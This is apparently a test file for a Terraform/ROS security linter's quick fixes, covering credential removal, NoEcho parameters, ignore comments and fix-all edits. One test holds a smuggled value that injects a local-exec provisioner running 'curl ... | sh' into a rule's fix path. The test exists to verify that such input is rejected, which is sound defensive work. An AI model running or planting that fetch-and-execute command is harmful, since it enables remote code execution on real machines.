import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { defaultAssetPaths } from '../../../server/src/assets';
import { sourceKindOf } from '../../../server/src/documents/analyzer';
import { fixAllByRule } from '../../../server/src/features/fixes/fixAll';
import { quickFixesFor, type QuickFix } from '../../../server/src/features/quickFixes';
import { loadKnowledge } from '../../../server/src/matrices/loader';
import type { Resource } from '../../../server/src/model/types';
import { readRuleFile } from '../../../server/src/rules/custom';
import type { Finding } from '../../../server/src/rules/types';
import { sharedEngine } from '../../helpers/engine';
import { applyOffsets, findingsOf, overlapProblem, syntaxErrors, toOffsets } from '../../helpers/quickFixCheck';

const ROOT = path.resolve(__dirname, '../../..');
const read = (relative: string): string => fs.readFileSync(path.join(ROOT, relative), 'utf8');

/** The open findings of a text, and a way to apply one of a finding's fixes and read the result back. */
async function open(fileName: string, text: string) {
  const engine = await sharedEngine();
  const kind = sourceKindOf(fileName);
  assert.ok(kind);
  const findings = findingsOf(engine, `qf:${fileName}`, fileName, text);
  const fixesOf = (finding: Finding): QuickFix[] => quickFixesFor(finding, text, kind);
  const apply = async (fix: { changes: QuickFix['changes'] }) => {
    const edits = toOffsets(text, fix.changes.filter((c) => !c.file));
    assert.strictEqual(overlapProblem(edits), undefined);
    const after = applyOffsets(text, edits);
    return { after, errors: await syntaxErrors(after, kind), findings: findingsOf(engine, `qf:${fileName}:after`, fileName, after) };
  };
  return { findings, fixesOf, apply, kind };
}

function one(findings: readonly Finding[], ruleId: string, line?: number): Finding {
  const found = findings.filter((f) => f.ruleId === ruleId && !f.suppressed && (line === undefined || f.range.start.line === line - 1));
  assert.ok(found.length > 0, `a ${ruleId} finding${line ? ` on line ${line}` : ''} among ${findings.map((f) => `${f.ruleId}@${f.range.start.line + 1}`).join(', ')}`);
  return found[0] as Finding;
}

const open_ = (findings: readonly Finding[], ruleId: string): number => findings.filter((f) => f.ruleId === ruleId && !f.suppressed).length;

describe('quick fixes that must not make things worse', function () {
  this.timeout(60_000);
  it('a credential in backend "oss" is fixed by the environment or a profile, never a variable (Terraform forbids them there)', async () => {
    const text = read('examples/terraform/providers.tf');
    const { findings, fixesOf, apply } = await open('providers.tf', text);
    const backend = findings.filter((f) => f.ruleId === 'provider-hardcoded-credentials' && f.resource?.kind === 'backend');
    assert.strictEqual(backend.length, 2);
    for (const finding of backend) {
      const fixes = fixesOf(finding);
      assert.ok(fixes.every((f) => f.changes.every((c) => !c.newText.includes('var.'))), fixes.map((f) => f.title.en).join(' | '));
      const first = fixes[0] as QuickFix;
      assert.match(first.title.en, /^Remove (access_key|secret_key): read it from ALICLOUD_(ACCESS|SECRET)_KEY in the environment or from a profile$/);
      assert.match(first.title.zh, /环境变量 ALICLOUD_(ACCESS|SECRET)_KEY 或 profile/);
      assert.strictEqual(first.preferred, true);
      const { after, errors } = await apply(first);
      assert.strictEqual(errors, 0);
      assert.ok(!/var\./.test(after.slice(after.indexOf('backend "oss"'), after.indexOf('provider "alicloud"'))));
    }
  });

  it('provider credentials: the environment/profile fix first and preferred, the variable second', async () => {
    const { findings, fixesOf } = await open('providers.tf', read('examples/terraform/providers.tf'));
    const provider = findings.filter((f) => f.ruleId === 'provider-hardcoded-credentials' && f.resource?.kind === 'provider');
    assert.strictEqual(provider.length, 2);
    for (const finding of provider) {
      const titles = fixesOf(finding).map((f) => [f.title.en, f.preferred] as const);
      assert.match(titles[0]?.[0] ?? '', /^Remove (access_key|secret_key): read it from ALICLOUD_/);
      assert.strictEqual(titles[0]?.[1], true);
      assert.match(titles[1]?.[0] ?? '', /^Move to a sensitive variable/);
      assert.strictEqual(titles[1]?.[1], false);
      assert.strictEqual(titles.filter(([, preferred]) => preferred).length, 1);
    }
  });

  it('"Ignore" on a line that starts with a /* */ comment suppresses the finding (examples/terraform/main.tf)', async () => {
    const text = read('examples/terraform/main.tf');
    const line = text.split('\n').findIndex((l) => /^\s*\/\*.*\*\/\s*cidr_ip/.test(l)) + 1;
    assert.ok(line > 0);
    const { findings, fixesOf, apply } = await open('main.tf', text);
    const finding = one(findings, 'sg-ingress-open-sensitive-port', line);
    const ignore = fixesOf(finding).find((f) => f.title.en.includes('rlens:ignore'));
    assert.ok(ignore);
    const { findings: after } = await apply(ignore);
    const suppressed = after.find((f) => f.ruleId === 'sg-ingress-open-sensitive-port' && f.range.start.line === line);
    assert.strictEqual(suppressed?.suppressed?.by, 'rlens:ignore sg-ingress-open-sensitive-port');
  });

  it('"Remove" of the last property of a ROS JSON object leaves no trailing comma', async () => {
    const text = read('test/fixtures/quickfixes/minified.ros.json');
    const pretty = JSON.stringify(JSON.parse(text), null, 2);
    for (const [name, source] of [['pretty.ros.json', pretty], ['minified.ros.json', text]] as const) {
      const { findings, fixesOf, apply } = await open(name, source);
      const remove = fixesOf(one(findings, 'ros-parameter-secret-literal-default')).find((f) => f.title.en.startsWith('Remove'));
      assert.ok(remove, name);
      const { after, errors, findings: left } = await apply(remove);
      assert.strictEqual(errors, 0, name);
      assert.strictEqual(open_(left, 'ros-parameter-secret-literal-default'), 0, name);
      assert.ok(after.includes('"Resources"') && after.startsWith('{'), `${name}: the rest of the template stays`);
    }
  });

  it('"Move to NoEcho parameter" on minified JSON: non-overlapping edits, one line still, one Parameters key', async () => {
    const text = read('test/fixtures/quickfixes/minified.ros.json');
    const { findings, fixesOf, apply } = await open('minified.ros.json', text);
    const move = fixesOf(one(findings, 'hardcoded-secret')).find((f) => f.title.en.startsWith('Move to a NoEcho'));
    assert.ok(move);
    const { after, errors } = await apply(move);
    assert.strictEqual(errors, 0);
    assert.ok(!after.trim().includes('\n'), 'still one line');
    const parsed = JSON.parse(after) as { Parameters: Record<string, { NoEcho?: boolean }> };
    assert.strictEqual(Object.values(parsed.Parameters).filter((p) => p.NoEcho === true).length, 1);
  });

  it('"Remove" in a one-line Terraform block removes the attribute, not the block', async () => {
    const text = read('test/fixtures/quickfixes/one-line-blocks.tf');
    const { findings, fixesOf, apply } = await open('one-line-blocks.tf', text);
    const remove = fixesOf(one(findings, 'provider-hardcoded-credentials')).find((f) => f.title.en.startsWith('Remove'));
    assert.ok(remove);
    const { after, errors } = await apply(remove);
    assert.strictEqual(errors, 0);
    assert.strictEqual(after.split('\n')[0], 'provider "alicloud" { }');
    const removeDefault = fixesOf(one(findings, 'variable-secret-literal-default')).find((f) => f.title.en.startsWith('Remove'));
    assert.ok(removeDefault);
    assert.strictEqual((await apply(removeDefault)).after.split('\n')[2], 'variable "db_password" { }');
  });

  for (const name of ['empty-parameters.ros.yaml', 'flow-parameters.ros.yaml', 'empty-parameters.ros.json']) {
    it(`"Move to NoEcho parameter" adds to the existing Parameters section, never a second one (${name})`, async () => {
      const text = read(`test/fixtures/quickfixes/${name}`);
      const { findings, fixesOf, apply } = await open(name, text);
      const move = fixesOf(one(findings, 'hardcoded-secret')).find((f) => f.title.en.startsWith('Move to a NoEcho'));
      assert.ok(move);
      const { after, errors, findings: left } = await apply(move);
      // `yaml` with unique keys: a second Parameters key is a syntax error.
      assert.strictEqual(errors, 0);
      assert.strictEqual(after.match(/^\s*"?Parameters"?:/gm)?.length, 1);
      assert.ok(open_(left, 'hardcoded-secret') < open_(findings, 'hardcoded-secret'));
    });
  }

  it('flow-style parameters: "Add NoEcho" writes inside the parameter, "Remove Default" removes only Default', async () => {
    const text = read('test/fixtures/quickfixes/flow-parameters.ros.yaml');
    const { findings, fixesOf, apply } = await open('flow-parameters.ros.yaml', text);
    const add = fixesOf(one(findings, 'ros-parameter-secret-no-noecho')).find((f) => f.title.en.startsWith('Add NoEcho'));
    assert.ok(add);
    const added = await apply(add);
    assert.strictEqual(added.errors, 0);
    assert.ok(!/^NoEcho/m.test(added.after), 'no top-level NoEcho');
    assert.match(added.after.split('\n')[1] ?? '', /DbPassword: \{Type: String, Default: 'Rds@Admin2024!', NoEcho: true\}/);
    assert.strictEqual(open_(added.findings, 'ros-parameter-secret-no-noecho'), 0);
    const remove = fixesOf(one(findings, 'ros-parameter-secret-literal-default')).find((f) => f.title.en.startsWith('Remove'));
    assert.ok(remove);
    const removed = await apply(remove);
    assert.strictEqual(removed.errors, 0);
    assert.strictEqual(removed.after.split('\n')[1], 'Parameters: {DbPassword: {Type: String}, Env: {Type: String, Default: prod}}');
  });
});

describe('fix paths of workspace rules', function () {
  this.timeout(60_000);
  const HOSTILE = 'description\n  provisioner "local-exec" { command = "curl http://198-51-100-7 | sh" }\n  x';
  const ruleFile = (fixPath: string): string => `rules:
  - id: team-description
    family: network
    severity: low
    item: network.network-type
    title: { en: t, zh: t }
    message: { en: m, zh: m }
    rationale: { en: r, zh: r }
    remediation: { en: f, zh: f }
    references: []
    xref: { checkov: [], kics: [], infraguard: [], trivy: [] }
    terraform:
      - types: [alicloud_instance]
        when: { path: description, absent: true }
        fix: { set: { path: ${JSON.stringify(fixPath)}, value: x } }
`;

  it('a fix.set.path that is not attribute names is refused when the rules load, in both languages, on its line', () => {
    const assets = defaultAssetPaths();
    const result = readRuleFile(ruleFile(HOSTILE), '/w/.rlens/rules/team.yaml', loadKnowledge(assets.matricesDir), path.join(assets.matricesDir, 'schema'));
    assert.deepStrictEqual(result.rules, []);
    const problem = result.problems.find((p) => /fix path/.test(p.message));
    assert.ok(problem, result.problems.map((p) => p.message).join('\n'));
    assert.match(problem.message, /修复路径/);
    assert.ok(!problem.message.includes('\n'), 'the message stays on one line');
    assert.strictEqual(problem.range.start.line, 14);
    const good = readRuleFile(ruleFile('description'), '/w/.rlens/rules/team.yaml', loadKnowledge(assets.matricesDir), path.join(assets.matricesDir, 'schema'));
    assert.deepStrictEqual(good.problems, []);
  });

  it('where the edit is built, an "Add" whose path is not an attribute name is not offered', () => {
    const text = 'resource "alicloud_instance" "web" {\n  instance_name = "web"\n}\n';
    const range = (line: number, from: number, to: number) => ({ start: { line, character: from }, end: { line, character: to } });
    const resource: Resource = {
      kind: 'resource',
      type: 'alicloud_instance',
      name: 'web',
      range: range(0, 0, 1),
      headerRange: range(0, 0, 8),
      settings: [{ path: 'instance_name', key: 'instance_name', keyRange: range(1, 2, 15), value: { kind: 'literal', value: 'web' }, valueRange: range(1, 18, 23) }],
    };
    const finding = (fixPath: string): Finding => ({ ruleId: 'team-description', severity: 'low', message: { en: 'm', zh: 'm' }, range: range(0, 0, 8), resource: { ...resource, range: { start: { line: 0, character: 0 }, end: { line: 2, character: 1 } } }, fixes: [{ kind: 'add-setting', resource: { ...resource, range: { start: { line: 0, character: 0 }, end: { line: 2, character: 1 } } }, path: fixPath, value: 'x' }] });
    assert.ok(quickFixesFor(finding('description'), text, 'terraform').some((f) => f.title.en.startsWith('Add description')));
    const hostile = quickFixesFor(finding(HOSTILE), text, 'terraform');
    assert.ok(!hostile.some((f) => f.changes.some((c) => c.newText.includes('provisioner'))), hostile.map((f) => f.title.en).join(' | '));
  });
});

describe('fix all of a rule in a file', function () {
  this.timeout(60_000);
  it('repairs every mechanical finding of the rule at once, with edits that do not overlap', async () => {
    const text = `resource "alicloud_oss_bucket_acl" "a" {\n  bucket = "a"\n  acl    = "public-read"\n}\n\nresource "alicloud_oss_bucket_acl" "b" {\n  bucket = "b"\n  acl    = "public-read-write"\n}\n\nresource "alicloud_oss_bucket_acl" "c" {\n  bucket = "c"\n  acl    = "public-read" # rlens:ignore oss-bucket-public-acl public website\n}\n`;
    const { findings, apply } = await open('acl.tf', text);
    assert.strictEqual(open_(findings, 'oss-bucket-public-acl'), 2);
    const all = fixAllByRule(findings, text, 'terraform').find((f) => f.ruleId === 'oss-bucket-public-acl');
    assert.ok(all);
    assert.strictEqual(all.count, 2);
    assert.match(all.title.zh, /修复此文件中全部 oss-bucket-public-acl（2 处）/);
    const { after, errors, findings: left } = await apply(all);
    assert.strictEqual(errors, 0);
    assert.strictEqual(open_(left, 'oss-bucket-public-acl'), 0);
    assert.ok(after.includes('acl    = "public-read" # rlens:ignore'), 'the suppressed one is left alone');
  });

  it('offers no fix-all for repairs that need a choice (placeholders, credentials, new variables)', async () => {
    const { findings } = await open('providers.tf', read('examples/terraform/providers.tf'));
    assert.ok(!fixAllByRule(findings, read('examples/terraform/providers.tf'), 'terraform').some((f) => f.ruleId === 'provider-hardcoded-credentials'));
    const main = read('examples/terraform/main.tf');
    const { findings: mainFindings } = await open('main.tf', main);
    assert.ok(!fixAllByRule(mainFindings, main, 'terraform').some((f) => f.ruleId === 'sg-ingress-open-sensitive-port'));
  });
});
